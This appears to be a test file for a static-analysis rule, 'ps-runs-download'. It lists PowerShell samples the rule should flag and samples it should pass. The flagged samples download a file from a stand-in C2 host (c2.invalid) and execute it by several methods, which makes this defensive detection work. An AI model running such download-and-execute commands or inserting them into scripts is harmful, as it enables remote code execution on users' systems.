# ruleid: ps-runs-download
Invoke-WebRequest https://c2.invalid/a -OutFile $f
Start-Process $f
# ruleid: ps-runs-download
(New-Object Net.WebClient).DownloadFile('https://c2.invalid/a', "$t"); & "$t"
# ruleid: ps-runs-download
iwr https://c2.invalid/a -OutFile C:\x\a.exe; start C:\x\a.exe
# ok: ps-runs-download
Invoke-WebRequest $u -OutFile $f
Expand-Archive $f
# ok: ps-runs-download
Start-Process notepad
